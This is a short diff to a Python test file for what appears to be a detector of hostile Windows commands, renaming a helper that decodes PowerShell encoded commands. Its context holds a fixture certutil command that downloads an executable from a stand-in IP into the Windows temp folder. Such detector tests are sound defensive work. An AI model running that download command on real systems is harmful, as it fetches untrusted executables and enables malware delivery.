@@ -14,7 +14,7 @@ import base64
 import pytest
 
 from code_support import assert_benign, assert_found, chain_of, cs_page, run, vb_page
-from exhunt.codeanalysis.encodedcommand import decoded, with_decoded
+from exhunt.codeanalysis.encodedcommand import decoded, decoded_commands
 
 REVERSE = "EXH-WS-CODE-REMOTE-ACCESS-COMMAND"
 DOWNLOAD = "EXH-WS-CODE-DOWNLOAD-COMMAND"
@@ -139,8 +139,8 @@ def test_decoding_is_bounded_and_exact() -> None:
     assert decoded("QUJDREVGR0g=") is None  # "ABCDEFGH": bytes, not UTF-16LE text
     assert decoded("not base64!") is None
     line = "powershell " + " ".join(f"-enc {encoded(f'echo {i}')}" for i in range(20))
-    assert with_decoded(line).count("-EncodedCommand decoded:") == 8
-    assert with_decoded("cmd /c dir") == "cmd /c dir"
+    assert decoded_commands(line) == [f"echo {i}" for i in range(8)]
+    assert decoded_commands("cmd /c dir") == []
 
 
 CERTUTIL = "/c certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\\\Windows\\\\Temp\\\\a.exe"
